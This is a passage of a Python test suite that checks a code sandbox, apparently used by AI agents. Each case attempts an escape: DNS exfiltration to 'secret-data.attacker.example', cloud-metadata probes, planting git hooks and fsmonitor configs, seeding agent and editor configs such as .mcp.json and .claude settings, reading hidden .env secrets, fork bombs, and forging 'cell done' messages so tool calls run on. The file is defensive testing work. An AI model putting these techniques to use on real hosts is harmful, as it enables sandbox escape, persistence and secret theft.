for address in ("127.0.0.2", "0.0.0.0", "localhost", "127.1", "2130706433"):
    attempt(lambda: connect(socket.AF_INET, (address, host["any"])))
if "tcp6" in host:
    attempt(lambda: connect(socket.AF_INET6, ("::1", host["tcp6"])))
attempt(lambda: connect(socket.AF_INET6, ("::ffff:127.0.0.1", host["any"])))
""", by=CLOSED + "|gaierror.*", escapes_without="network")
denied("send_a_datagram_to_the_host", "namespaces", "connect(socket.AF_INET, ('127.0.0.1', host['udp']), socket.SOCK_DGRAM)",
       CLOSED)
denied("reach_an_abstract_socket_of_the_host", "namespaces", "connect(socket.AF_UNIX, host['abstract'])", CLOSED,
       holds_without="network", escapes_without="network,landlock", needs=("landlock-scopes",))
denied("reach_a_socket_in_the_host_s_files", "view", "connect(socket.AF_UNIX, host['socket'])", "ENOENT",
       escapes_without="view")
denied("reach_a_socket_of_the_host_in_the_workspace", "view", "connect(socket.AF_UNIX, host['inner_socket'])",
       "ECONNREFUSED|EACCES|ENOENT", escapes_without="view")
attack("resolve_names", "namespaces", """
attempt(lambda: socket.getaddrinfo("example.com", 443))
attempt(lambda: socket.gethostbyname("secret-data.attacker.example"))
query = bytes.fromhex("000101000001000000000000076578616d706c6503636f6d0000010001")
for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "127.0.0.11", "10.0.2.3", "169.254.169.253"):
    def ask():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
            resolver.settimeout(0.5)
            resolver.connect((server, 53))
            resolver.send(query)
            return resolver.recv(512)
    attempt(ask)
""", by=f"{CLOSED}|gaierror .*[Nn]ame (resolution|or service).*")
attack("connect_to_addresses", "namespaces", """
for address in ("1.1.1.1", "93.184.215.14", "10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1", "224.0.0.1",
                "255.255.255.255"):
    attempt(lambda: connect(socket.AF_INET, (address, 443)))
for address in ("2606:4700:4700::1111", "fe80::1", "64:ff9b::7f00:1"):
    attempt(lambda: connect(socket.AF_INET6, (address, 443)))
""", by=f"{CLOSED}|EINVAL")
attack("ask_a_cloud_s_metadata_service", "namespaces", """
for address in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192"):
    attempt(lambda: connect(socket.AF_INET, (address, 80)))
attempt(lambda: connect(socket.AF_INET6, ("fd00:ec2::254", 80)))
""", by=CLOSED)
attack("forge_packets", "namespaces", """
for kind, protocol in ((socket.SOCK_RAW, 255), (socket.SOCK_RAW, 1), (socket.SOCK_RAW, 6)):
    attempt(lambda: socket.socket(socket.AF_INET, kind, protocol))
    attempt(lambda: socket.socket(socket.AF_INET6, kind, protocol))
""", by="EPERM|EPROTONOSUPPORT")
attack("add_a_network_interface", "namespaces", """
print([name for _, name in socket.if_nameindex()])
link = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
link.settimeout(3)
kind = struct.pack("<HH", 9, 1) + b"dummy" + bytes(3)
information = struct.pack("<HH", 4 + len(kind), 18) + kind
body = struct.pack("<BxHiII", 0, 0, 0, 0, 0) + information
link.send(struct.pack("<IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
answer = struct.unpack("<IHHIIi", link.recv(4096)[:20])
print("refused:" if answer[-1] < 0 else "ESCAPED:", errno.errorcode.get(-answer[-1]))
""", by="EPERM|EOPNOTSUPP", says=r"^\['lo'\]")

# ---- what the host will read or run later -------------------------------------------------------

attack("plant_a_git_hook_where_no_repository_is", "protect", """
attempt(lambda: os.makedirs(".git/hooks"))
attempt(lambda: write(".git/hooks/pre-commit"))
attempt(lambda: write(".git/config"))
attempt(lambda: os.rename(".git", "moved"))
attempt(lambda: write(".git"))
print(subprocess.run(["git", "init", "-q"], capture_output=True).returncode)
""", by="EROFS|EACCES|EEXIST|ENOENT|EBUSY|EISDIR|ENOTDIR|EPERM", says="^[1-9]", harm=absent(".git", "moved"),
       escapes_without="protect", sandboxes=("bubblewrap",))
attack("plant_a_git_hook_that_goes_with_the_sandbox", "protect", """
# In srt what was absent can be made, in a place of the sandbox's own that goes with it.
for action in (lambda: os.makedirs(".git/hooks"), lambda: write(".git/hooks/pre-commit"), lambda: write(".git/config"),
               lambda: os.rename(".git", "moved")):
    try:
        action()
    except OSError:
        pass
print("tried")
""", says="^tried", harm=lambda place, outcome: absent(".git", "moved")(place, outcome) or git_is_safe(place, outcome), alone=True,
       sandboxes=("srt",))
attack("plant_a_git_hook_in_a_repository", "protect", """
script = '#!/bin/sh\\ntouch "$HOME/pwned"\\n'
attempt(lambda: write(".git/hooks/pre-commit", script))
attempt(lambda: os.symlink("evil", ".git/hooks/post-checkout"))
attempt(lambda: os.rename(".git/hooks", ".git/old"))
attempt(lambda: os.rename(".git", "old"))
attempt(lambda: write(".git/config", "[core]\\n\\thooksPath = /tmp\\n"))
attempt(lambda: os.unlink(".git/config"))
os.makedirs("evil/hooks", exist_ok=True)
write("evil/config", "")
attempt(lambda: os.rename("evil/config", ".git/config"))
attempt(lambda: os.rename("evil/hooks", ".git/hooks"))
attempt(lambda: call("renameat2", -100, b"evil/config", -100, b".git/config", 2))
print(subprocess.run(["git", "config", "core.fsmonitor", "x"], capture_output=True).returncode)
""", by="EROFS|EACCES|EBUSY|EPERM|EXDEV|ENOTEMPTY|EEXIST", says="^[1-9]", setup=lambda place: place.repository(),
       harm=git_is_safe, alone=True, escapes_without="protect")
attack("lead_git_to_another_configuration", "protect", """
# A file .git/commondir says where configuration and hooks lie.
os.makedirs("evil/hooks", exist_ok=True)
write("evil/config", '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = "touch $HOME/pwned; false"\\n')
os.makedirs("evil/refs", exist_ok=True)
os.makedirs("evil/objects", exist_ok=True)
attempt(lambda: write(".git/commondir", "../evil\\n"))
""", by="EROFS|EACCES|EBUSY|EPERM", setup=lambda place: place.repository(), harm=git_is_safe, alone=True,
       escapes_without="protect")
attack("lead_git_astray_in_a_repository_below", "protect", """
for name in ("config", "commondir", "hooks/post-index-change"):
    attempt(lambda: write("project/.git/" + name))
attempt(lambda: os.rename("project/.git", "project/moved"))
""", by="EROFS|EACCES|EBUSY|EPERM", setup=lambda place: place.repository("workspace/project"), alone=True,
       escapes_without="protect")
attack("plant_configuration_where_git_follows", "protect", """
for path in (".git/config.worktree", ".git/modules/lib/part/config", ".git/modules/lib/part/config.worktree",
             ".git/modules/lib/part/commondir", ".git/modules/lib/part/hooks/post-index-change", ".husky/pre-commit"):
    attempt(lambda: write(path, '[core]\\n\\tfsmonitor = "touch $HOME/pwned; false"\\n'))
for path in (".git/modules", ".git/modules/lib", ".git/modules/lib/part", ".husky"):
    attempt(lambda: os.rename(path, "moved"))
""", by="EROFS|EACCES|EBUSY|EPERM|EXDEV", setup=_submodule, harm=git_is_safe, alone=True, escapes_without="protect")
attack("make_the_workspace_a_bare_repository", "protect", """
# git takes a directory with HEAD, refs and objects for a repository, and reads `config` there.
os.makedirs("refs"), os.makedirs("objects")
write("config", '[core]\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = "touch $HOME/pwned; false"\\n')
attempt(lambda: write("HEAD", "ref: refs/heads/main\\n"))
""", by="EROFS|EACCES|EBUSY|EPERM", harm=git_is_safe, alone=True, escapes_without="protect")
attack("plant_configuration_of_agents_and_editors", "protect", """
def plant(path):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    return write(path)
for path in (".mcp.json", ".claude/settings.json", ".claude/commands/x.md", ".claude/agents/x.md", ".vscode/tasks.json",
             ".idea/workspace.xml", ".gitconfig", ".gitmodules", ".env", ".venv/bin/python"):
    attempt(lambda: plant(path))
    top = path.split("/")[0]
    attempt(lambda: os.symlink("/tmp", top))
    attempt(lambda: os.rename(top, "moved_" + top))
    write("evil.txt")
    attempt(lambda: os.rename("evil.txt", top))
    os.makedirs("evil_directory", exist_ok=True)
    attempt(lambda: os.rename("evil_directory", top))
    attempt(lambda: call("renameat2", -100, b"evil_directory", -100, top.encode(), 2))
    attempt(lambda: os.link("evil.txt", top))
""", by="EROFS|EACCES|EBUSY|EPERM|EEXIST|EXDEV|ENOTDIR|EISDIR|ENOTEMPTY",
       harm=absent(".mcp.json", ".claude", ".vscode", ".idea", ".gitconfig", ".gitmodules", ".env", ".venv"), alone=True,
       escapes_without="protect,hidden")
attack("plant_what_the_host_runs_unasked", "protect", """
def plant(path):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    return write(path)
for path in (".husky/pre-commit", ".envrc", ".cursor/mcp.json", ".devcontainer/devcontainer.json", ".codex/config.toml",
             ".gemini/settings.json", ".zed/settings.json", ".kiro/settings/mcp.json", ".roo/mcp.json", ".zshenv", ".bash_login",
             "lefthook.yml", "mise.toml"):
    top = path.split("/")[0]
    attempt(lambda: plant(path))
    attempt(lambda: os.symlink("/tmp", top))
    attempt(lambda: os.rename(top, "moved_" + top))
    write("unasked.txt")
    attempt(lambda: os.rename("unasked.txt", top))
    attempt(lambda: os.link("unasked.txt", top))
""", by="EROFS|EACCES|EBUSY|EPERM|EEXIST|EXDEV|ENOTDIR|EISDIR",
       harm=absent(".husky", ".envrc", ".cursor", ".devcontainer", ".codex", ".gemini", ".zed", ".kiro", ".roo", ".zshenv", ".bash_login",
                   "lefthook.yml", "mise.toml"), alone=True, escapes_without="protect", sandboxes=BOTH)
attack("change_what_the_host_runs_unasked_below", "protect", """
for path in ("project/.envrc", "project/lefthook.yml", "project/lefthook-local.yml", "project/.vscode/tasks.json", "team.code-workspace"):
    attempt(lambda: write(path))
    attempt(lambda: os.rename(path, "moved"))
attempt(lambda: os.rename("project", "moved"))
""", by="EROFS|EACCES|EBUSY|EPERM|EXDEV|ENOENT", alone=True, escapes_without="protect", sandboxes=BOTH,
       setup=lambda place: [place.file("workspace/" + name, "kept") for name in
                            ("project/.envrc", "project/lefthook.yml", "project/.vscode/tasks.json", "team.code-workspace")],
       harm=unchanged("project/.envrc", "kept"))
attack("change_what_git_s_hooks_and_settings_name", "protect", """
script = '#!/bin/sh\\ntouch "$HOME/pwned"\\n'
for path in (".husky/_/pre-commit", ".husky/pre-commit", ".husky/_/husky.sh", "scripts/check.sh", "tools/watch.sh"):
    attempt(lambda: write(path, script))
    attempt(lambda: os.rename(path, "moved"))
attempt(lambda: write("scripts/more.py", "import os, pathlib\\npathlib.Path(os.environ['HOME'], 'pwned').touch()\\n"))
for path in ("shared.conf", "team/team.conf", "team/more.conf"):
    attempt(lambda: write(path, '[core]\\n\\tfsmonitor = "touch $HOME/pwned; false"\\n'))
for path in (".husky", "scripts", "tools", "team"):
    attempt(lambda: os.rename(path, "moved"))
""", by="EROFS|EACCES|EBUSY|EPERM|EXDEV|ENOENT", setup=_husky, harm=git_is_safe, alone=True, escapes_without="protect", sandboxes=BOTH)
attack("change_the_script_that_a_hook_is_a_link_to", "protect", """
attempt(lambda: write("tools/commit", '#!/bin/sh\\ntouch "$HOME/pwned"\\n'))
attempt(lambda: os.rename("tools", "moved"))
attempt(lambda: os.unlink(".git/hooks/pre-commit"))
""", by="EROFS|EACCES|EBUSY|EPERM|EXDEV", setup=_linked_hook, harm=git_is_safe, alone=True, escapes_without="protect", sandboxes=BOTH)
attack("plant_start_files_of_shells", "protect", """
# Of whoever has chosen the home directory as workspace.
for path in (".bashrc", ".bash_profile", ".profile", ".zshrc", ".zprofile", ".ripgreprc"):
    attempt(lambda: write(path))
""", by="EROFS|EACCES|EBUSY|EPERM", harm=absent(".bashrc", ".profile", ".zshrc"), escapes_without="protect")
attack("swap_protected_files_while_the_host_looks", "protect", """
stop = time.monotonic() + 1
won = []
def swap(name):
    while time.monotonic() < stop:
        for action in (lambda: os.symlink("/tmp", name), lambda: os.unlink(name), lambda: os.rename(name, name + "x"),
                       lambda: os.mkdir(name), lambda: os.rmdir(name), lambda: write(name)):
            try:
                action()
                won.append(name)
            except OSError:
                pass
threads = [threading.Thread(target=swap, args=(name,)) for name in (".mcp.json", ".claude", ".git")]
[t.start() for t in threads]
[t.join() for t in threads]
print("ESCAPED:" if won else "refused:", won)
""", harm=absent(".mcp.json", ".claude", ".git"), escapes_without="protect")
attack("change_what_the_settings_protect", "protect", """
attempt(lambda: write("frozen/file"))
attempt(lambda: os.unlink("frozen/file"))
attempt(lambda: os.rename("frozen", "thawed"))
attempt(lambda: os.link("frozen/file", "linked"))
attempt(lambda: os.chmod("frozen/file", 0o777))
attempt(lambda: os.truncate("frozen/file", 0))
attempt(lambda: os.setxattr("frozen/file", "user.x", b"x"))
""", by="EROFS|EBUSY|EXDEV|EACCES|EPERM|ENOTSUP", profile="settings",
       setup=lambda place: place.file("workspace/frozen/file", "kept"), harm=unchanged("frozen/file", "kept"), escapes_without="protect")
attack("change_the_host_s_own_configuration", "protect", """
# The next start would run what servers.json names, outside the sandbox.
for name in ("servers.json", "sandbox.json"):
    attempt(lambda: write(name, '{"mcpServers": {"own": {"command": "/bin/sh", "args": ["-c", "touch ../outside/pwned"]}}}'))
    attempt(lambda: os.rename(name, name + ".old"))
    attempt(lambda: os.unlink(name))
""", by="EROFS|EBUSY|EACCES|EPERM", profile="inner-files", alone=True, escapes_without="protect", sandboxes=BOTH)
attack("plant_a_hook_in_a_repository_below", "protect", """
attempt(lambda: write("project/.git/hooks/pre-commit", "x"))
attempt(lambda: write("project/.git/config", "x"))
attempt(lambda: write(".bashrc"))
""", by="EROFS|EACCES|EBUSY|EPERM", profile="settings", setup=lambda place: place.repository("workspace/project"))
attack("plant_modules_for_the_next_start", "host", """
# An interpreter that the host starts in the workspace must not import from there.
text = "import os\\ntry:\\n    open(%r, 'w').close()\\nexcept OSError:\\n    pass\\n" % (host["outside"] + "/pwned")
for name in ("sitecustomize", "usercustomize", "encodings", "json", "site", "os", "importlib"):
    write(f"planted_{name}.py", text)
    os.rename(f"planted_{name}.py", f"{name}.py")
write("pyvenv.cfg", "home = /tmp\\n")
print("planted")
""", says="^planted", alone=True,
       harm=lambda place, outcome: "the host ran a module of the workspace" if
       (place.run("1", PROFILES["tools"](place)) and (place.outside / "pwned").exists()) else "", sandboxes=BOTH)

# ---- hidden files -------------------------------------------------------------------------------


def _hide(place: Place) -> None:
    place.file("workspace/.env", f"KEY={place.token}")
    place.file("workspace/sub/deep/.env", f"KEY={place.token}")
    place.file("workspace/private/key", place.token)


attack("read_a_hidden_file", "hidden", """
for path in (".env", "sub/deep/.env", "./sub/../.env", "/proc/self/cwd/.env", "/proc/self/root" + host["workspace"] + "/.env"):
    attempt(lambda: read(path))
    attempt(lambda: os.listdir(path))
print(subprocess.run(["cat", ".env"], capture_output=True).returncode)
import mmap
attempt(lambda: mmap.mmap(os.open(".env", os.O_RDONLY), 0))
""", by="EACCES|EPERM|ENOTDIR", says="^[1-9]", setup=_hide, escapes_without="hidden")
attack("move_link_or_copy_a_hidden_file", "hidden", """
import shutil
attempt(lambda: os.rename(".env", "visible"))
attempt(lambda: os.link(".env", "linked"))
attempt(lambda: shutil.copy(".env", "copied"))
attempt(lambda: os.unlink(".env"))
attempt(lambda: os.chmod(".env", 0o777))
try:
    os.rename("sub", "renamed")
    attempt(lambda: read("renamed/deep/.env"))
    os.rename("renamed", "sub")
except OSError as error:
    print("refused:", why(error))
attempt(lambda: read("sub/deep/.env"))
""", by="EACCES|EPERM|EBUSY|EROFS|EXDEV|EPERM", setup=_hide, harm=lambda place, outcome:
    "" if (place.workspace / ".env").read_text() == f"KEY={place.token}" else ".env was changed", alone=True,
       escapes_without="hidden")
attack("read_what_the_settings_deny", "hidden", """
attempt(lambda: read(host["secret"]))
attempt(lambda: next(iter(os.listdir(host["outside"]))))  # srt shows an empty one
attempt(lambda: read("private/key"))
attempt(lambda: os.rename("private", "public"))
""", by="EACCES|EPERM|ENOENT|EBUSY|EXDEV|EROFS|StopIteration ?", profile="settings", setup=_hide, escapes_without="hidden")
attack("write_where_the_settings_do_not_allow", "view", """
attempt(lambda: write(host["outside"] + "/planted"))
attempt(lambda: write("/var/tmp/ipybox-planted"))
attempt(lambda: write("/etc/ipybox-planted"))
attempt(lambda: write(os.path.dirname(host["workspace"]) + "/planted"))
attempt(lambda: connect(socket.AF_UNIX, host["socket"]))
""", by="EROFS|EACCES|EPERM|ENOENT|EAFNOSUPPORT", profile="settings")

# ---- limits -------------------------------------------------------------------------------------

attack("fork_without_end", "limits", """
elsewhere('''
children = []
try:
    for number in range(400):
        child = os.fork()
        if child == 0:
            time.sleep(100)
            os._exit(0)
        children.append(child)
    print("ESCAPED:", len(children))
except OSError as error:
    print("refused:", why(error))
for child in children:
    os.kill(child, signal.SIGKILL)
''')
""", by="EAGAIN", profile="limits", needs=("limit",), escapes_without="limits")
attack("start_threads_without_end", "limits", """
elsewhere('''
try:
    for number in range(400):
        threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
    print("ESCAPED:", number)
except RuntimeError as error:
    print("refused:", why(error))
sys.stdout.flush()
os._exit(0)
''')
""", by="RuntimeError.*", profile="limits", needs=("limit",), escapes_without="limits")
attack("explode_as_a_fork_bomb", "limits", """
print("armed", flush=True)
subprocess.Popen(["sh", "-c", "bomb() { bomb | bomb & }; bomb; sleep 100"], stderr=subprocess.DEVNULL)
time.sleep(3)
""", says="^armed", profile="limits", needs=("limit",), alone=True, status=(0, 1))
attack("use_more_memory_than_allowed", "limits", """
attempt(lambda: len(bytearray(3 << 30)))
import mmap
attempt(lambda: mmap.mmap(-1, 4 << 30))
elsewhere("attempt(lambda: len(bytearray(3 << 30)))")
""", by="MemoryError.*|ENOMEM", profile="limits", needs=("limit",), escapes_without="limits")
attack("open_files_without_end", "limits", """
def flood():
    files = []
    try:
        while len(files) < 1000:
            files.append(os.open("/dev/null", os.O_RDONLY))
        return len(files)
    finally:
        for each in files:
            os.close(each)
attempt(flood)
""", by="EMFILE", profile="limits", needs=("limit",), escapes_without="limits")
attack("write_a_huge_file", "limits", """
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
def flood(path):
    with open(path, "wb") as file:
        for _ in range(30):
            file.write(bytes(1 << 20))
    return path
attempt(lambda: flood("huge"))
attempt(lambda: os.truncate("huge", 1 << 40))
""", by="EFBIG", profile="limits", needs=("limit",), escapes_without="limits")
attack("raise_the_limits", "limits", """
import resource
for name in ("NPROC", "NOFILE", "FSIZE", "AS", "CORE"):
    number = getattr(resource, "RLIMIT_" + name)
    attempt(lambda: resource.setrlimit(number, (-1, -1)))
    soft, hard = resource.getrlimit(number)
    attempt(lambda: resource.setrlimit(number, (hard + 1, hard + 1)))
""", by="ValueError.*|EPERM", profile="limits", needs=("limit",))
attack("fill_the_scratch_space", "limits", """
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
def flood(directory):
    try:
        for number in range(4):
            with open(f"{directory}/flood{number}", "wb") as file:
                for _ in range(8):
                    file.write(bytes(1 << 20))
        return directory
    finally:
        for number in range(4):
            try:
                os.unlink(f"{directory}/flood{number}")
            except OSError:
                pass
for directory in ("/tmp", "/dev/shm", "/home/user"):
    attempt(lambda: flood(directory))
""", by="ENOSPC", profile="limits", needs=("limit",))
attack("fill_scratch_with_empty_files", "limits", """
def flood(directory):
    for number in range(2000):
        os.close(os.open(f"{directory}/{number}", os.O_CREAT | os.O_WRONLY))
    return directory
for directory in ("/tmp", "/dev/shm", "/home/user"):
    attempt(lambda: flood(directory))
""", by="ENOSPC|EDQUOT", profile="inodes", needs=("limit", "scratch-inodes"))
attack("use_the_processor_without_end", "limits", """
elsewhere("while time.process_time() < 3.5: pass\\nprint('ESCAPED: it ran on')")
""", says="^ended by SIG(XCPU|KILL)", profile="cpu", needs=("limit",), escapes_without="limits")
attack("outlive_the_time_allowed", "limits", """
signal.signal(signal.SIGINT, signal.SIG_IGN)
subprocess.Popen(["setsid", "sh", "-c", "trap '' TERM INT HUP; sleep 1000"])
print("armed", flush=True)
time.sleep(12)
print("ESCAPED: it lived on", flush=True)
time.sleep(1)
""", says="^armed", profile="wall", needs=("limit",), alone=True, status=(1,))
attack("use_much_memory_in_many_processes", "limits", """
print("armed", flush=True)
code = "block = bytearray(120 << 20); import time; time.sleep(2)"
children = [subprocess.Popen([sys.executable, "-I", "-c", code]) for _ in range(6)]
ends = [child.wait() for child in children]
print("ESCAPED: 720 MB" if not any(ends) else "some were killed")
""", says="some were killed|kernel ended", profile="memory-total", needs=("limit", "memory-total"), alone=True, status=(0, 1),
       escapes_without="limits")
attack("leave_core_dumps", "limits", """
done = subprocess.run([sys.executable, "-I", "-c", "import os; os.abort()"], capture_output=True)
print(done.returncode, [p for p in os.listdir(".") if p.startswith("core")])
""", says=r"^-6 \[\]")

# ---- what the host hears ------------------------------------------------------------------------

attack("ignore_the_interrupt", "host", """
signal.signal(signal.SIGINT, signal.SIG_IGN)
print("armed", flush=True)
while True:
    try:
        time.sleep(1000)
    except BaseException:
        pass
""", says="armed(.|\n)*timed out(.|\n)*killed", profile="timeout", alone=True, status=(1,))
attack("leave_processes_behind", "namespaces", """
for _ in range(3):
    subprocess.Popen(["setsid", "sh", "-c", "trap '' TERM INT HUP; sleep 1000 & wait"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        os.chdir("/")
        time.sleep(1000)
    os._exit(0)
print("left")
""", says="^left", alone=True)
attack("print_without_end", "host", """
print("armed")
block = "x" * (1 << 20)
while True:
    print(block)
""", says="the output exceeded the limit", alone=True, status=(1,), limit=110)
attack("send_a_message_nested_without_end", "host", """
shell = get_ipython()
depth = 200_000
for kind, content in (("display_data", b'{"data":' + b"[" * depth + b"]" * depth + b',"metadata":{}}'),
                      ("stream", b'{"name":"stdout","text":' + b'{"a":' * depth + b"1" + b"}" * depth + b"}")):
    shell.kernel.session.send(shell.kernel.iopub_socket, kind, content, parent=shell.kernel.get_parent("shell"))
print("sent", flush=True)
""", says="sent|protocol", kernel="zmq", alone=True, status=(0, 1), harm=ends_like_any_other, sandboxes=ALL)
attack("send_a_huge_message", "host", """
shell = get_ipython()
content = b'{"name":"stdout","text":"' + b"x" * (300 << 20) + b'"}'
shell.kernel.session.send(shell.kernel.iopub_socket, "stream", content, parent=shell.kernel.get_parent("shell"))
print("sent", flush=True)
time.sleep(5)
""", says="sent|protocol|kernel ended|connection", kernel="zmq", alone=True, status=(0, 1), harm=memory_below(1 << 30), sandboxes=ALL)
attack("send_nonsense_to_the_host", "host", """
shell = get_ipython()
kernel, session = shell.kernel, shell.kernel.session
parent = kernel.get_parent("shell")
for kind in ("execute_input", "comm_open", "input_request", "shutdown_reply", "kernel_info_reply", "status", "error", "stream",
             "display_data", "execute_result", "clear_output", "iopub_welcome", "\\0", "x" * 100_000):
    for content in (b"{}", b"[]", b"null", b'"x"', b"1e999", b"{", b"\\xff", b'{"data": 1, "metadata": []}',
                    b'{"name": {}, "text": []}', b'{"execution_state": []}', b'{"traceback": "x", "ename": 1}'):
        session.send(kernel.iopub_socket, kind, content, parent=parent)
kernel.iopub_socket.send_multipart([b""])
kernel.iopub_socket.send_multipart([b"<IDS|MSG>"])
kernel.iopub_socket.send_multipart([b"<IDS|MSG>", b"bad", b"{}", b"{}", b"{}", b"{}"])
kernel.iopub_socket.send_multipart([b"x"] * 2000)
print("sent", flush=True)
""", says="sent|protocol|kernel", kernel="zmq", alone=True, status=(0, 1), harm=ends_like_any_other, sandboxes=ALL)
_GO_ON = """
time.sleep(0.3)  # until the host has heard it
end = time.monotonic() + 3
with open("late.txt", "a", buffering=1) as late:
    while time.monotonic() < end:
        try:
            late.write("ESCAPED " + echo.run(text="late") + "\\n")
        except Exception as error:
            late.write(f"refused {error}\\n")
        time.sleep(0.02)
"""
attack("say_that_the_cell_is_done", "tool server", """
# A forged end of the cell: whatever runs on is no cell's business any more.
from mcptools.own import echo
shell = get_ipython()
kernel, session = shell.kernel, shell.kernel.session
parent = kernel.get_parent("shell")
echo.run(text="before")
session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []},
             parent=parent, ident=kernel._shell_parent_ident.get())
session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent, ident=kernel._topic("status"))
""" + _GO_ON, says=r"\[allowed\] own.echo\(text='before'\)", profile="tools", kernel="zmq", alone=True, status=(0, 1), harm=nothing_late, sandboxes=BOTH)
attack("say_on_the_link_that_the_cell_is_done", "tool server", """
# The same on a kernel of ipybox's own.
from mcptools.own import echo
from ipybox_kernel.frames import TAPE
echo.run(text="before")
TAPE.send("k", {"id": TAPE.cell, "ok": True})
""" + _GO_ON, says=r"\[allowed\] own.echo\(text='before'\)", kernel="fork", profile="tools", alone=True, status=(0, 1), harm=nothing_late, sandboxes=BOTH)
attack("send_nonsense_on_the_link", "host", """
import struct
link = socket.socket(fileno=os.dup(3))
for kind in "dxqroehkixac\\0":
    for content in (b"{}", b"[]", b"null", b'"x"', b"1e999", b"{", b"\\xff", b'{"data": 1, "metadata": []}',
                    b'{"id": {}, "ok": []}', b'{"prompt": [], "password": 7}', b'{"traceback": "x", "ename": 1}',
                    b'{"data":' + b"[" * 200_000 + b"]" * 200_000 + b"}"):
        try:
            link.sendall(struct.pack("<IB", len(content), ord(kind)) + content)
        except OSError:
            pass
print("sent", flush=True)
""", says="sent|protocol|kernel", kernel="fork", alone=True, status=(0, 1), harm=ends_like_any_other, sandboxes=BOTH)
attack("call_tools_after_the_cell", "tool server", """
import atexit
from mcptools.own import echo
def later(text):
    with open("late.txt", "a", buffering=1) as late:
        try:
            late.write("ESCAPED " + echo.run(text=text) + "\\n")
        except Exception as error:
            late.write(f"refused {error}\\n")
def wait():
    time.sleep(0.5)  # the cell takes 0.2 s
    for _ in range(50):
        later("late")
        time.sleep(0.02)
threading.Thread(target=wait).start()
atexit.register(later, "late")
get_ipython().events.register("post_run_cell", lambda *_: threading.Timer(0.05, later, ("late",)).start())
if os.fork() == 0:
    time.sleep(0.5)
    for _ in range(50):
        later("late")
        time.sleep(0.02)
    os._exit(0)
time.sleep(0.2)
print("done")
""", says="^done", profile="tools", alone=True, harm=nothing_late, sandboxes=BOTH)



attack("put_a_link_in_the_place_of_a_socket", "host", """
# The host is to connect to a socket of its own, and to send what it believes to be for the kernel.
directory = "/run/ipybox/kernel"
for name in os.listdir(directory):
    if name.startswith("s-"):
        os.unlink(f"{directory}/{name}")
        try:
            os.symlink(host["socket"], f"{directory}/{name}")
        except PermissionError:
            pass  # Landlock, unless it is taken away
import zmq
for number in list(range(3, 200)):
    try:
        if os.readlink(f"/proc/self/fd/{number}").startswith("socket:"):
            os.close(number)
    except OSError:
        pass
time.sleep(2)
os._exit(1)
""", says="kernel", alone=True, status=(1,), profile="zmq", holds_without="landlock")
attack("fill_the_host_s_disk_by_the_directory_of_the_sockets", "landlock", """
directory = "/run/ipybox/kernel"
attempt(lambda: write(f"{directory}/flood"))
attempt(lambda: os.mkdir(f"{directory}/more"))
attempt(lambda: os.link("/proc/self/exe", f"{directory}/linked"))
attempt(lambda: os.rename(f"{directory}/connection.json", f"{directory}/renamed"))
attempt(lambda: write(f"{directory}/connection.json"))
attempt(lambda: os.mkfifo(f"{directory}/fifo"))
""", by="EACCES|EXDEV|EPERM|EROFS|ENOENT", profile="zmq", holds_without="landlock")
attack("fill_the_host_s_inodes_by_sockets", "host", """
# Each is an inode of the host's file system, and none is counted by a limit.
def flood(directory):
    os.chdir(directory)
    for number in range(2000):
        with socket.socket(socket.AF_UNIX) as one:
            one.bind(f"more-{number}")
    return directory
os.makedirs("/tmp/sockets")
print("elsewhere:", flood("/tmp/sockets"))
attempt(flood, "/run/ipybox/kernel")
os.chdir("/run/ipybox/kernel")
attempt(os.chmod, ".", 0o777) if os.stat(".").st_uid != os.getuid() else None
attempt(os.link, "/proc/self/exe", "linked")
attempt(os.rename, "/tmp/sockets", "moved")
print("there:", os.listdir("."))
""", says=r"^elsewhere: /tmp/sockets\n(refused: (EACCES|EPERM|ENOENT|EXDEV|EROFS)\n)+there: \[\]$", profile="zmq", holds_without="landlock")
attack("hide_a_link_among_the_images", "host", """
# The host writes images: not where a link leads, and not into a pipe that nobody reads.
os.symlink(host["outside"], "pictures")
import time
from IPython.display import Image, display
png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")
display(Image(png))
time.sleep(0.5)  # the host looks when the message comes
os.unlink("pictures")
os.mkfifo("pictures")
display(Image(png))
time.sleep(0.5)
os.unlink("pictures")
os.makedirs("pictures/x")
os.rmdir("pictures/x")
os.chmod("pictures", 0)
display(Image(png))
time.sleep(0.5)
os.chmod("pictures", 0o755)
print("sent")
""", says="^sent", profile="images", alone=True, sandboxes=BOTH)
attack("exchange_the_images_directory_while_it_is_used", "host", """
from IPython.display import Image, display
png = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")
os.mkdir("pictures")
os.symlink(host["outside"], "other")
stop = False
def exchange():
    while not stop:
        call("renameat2", -100, b"pictures", -100, b"other", 2)
thread = threading.Thread(target=exchange)
thread.start()
for _ in range(200):
    display(Image(png))
stop = True
thread.join()
print("sent")
""", says="sent", profile="images", alone=True)
attack("lead_generated_sources_astray", "host", """
import shutil
shutil.rmtree("mcptools")
os.symlink(host["outside"], "mcptools")
print("planted")
""", says="^planted", profile="tools", alone=True,
       harm=lambda place, outcome: "" if place.run("1", PROFILES["tools"](place)).status == 2
       else "the next start did not refuse", sandboxes=BOTH)
attack("ask_the_person_for_input", "host", """
attempt(lambda: input("password: "))
import getpass
attempt(lambda: getpass.getpass())
""", by="StdinNotImplementedError.*|EOFError.*|ENXIO.*")

# ---- tool calls ---------------------------------------------------------------------------------

_RAW = """
import json
def post(body=None, head="", target="/run", token=os.environ["IPYBOX_TOOL_TOKEN"], method="POST", raw=None):
    if raw is None:
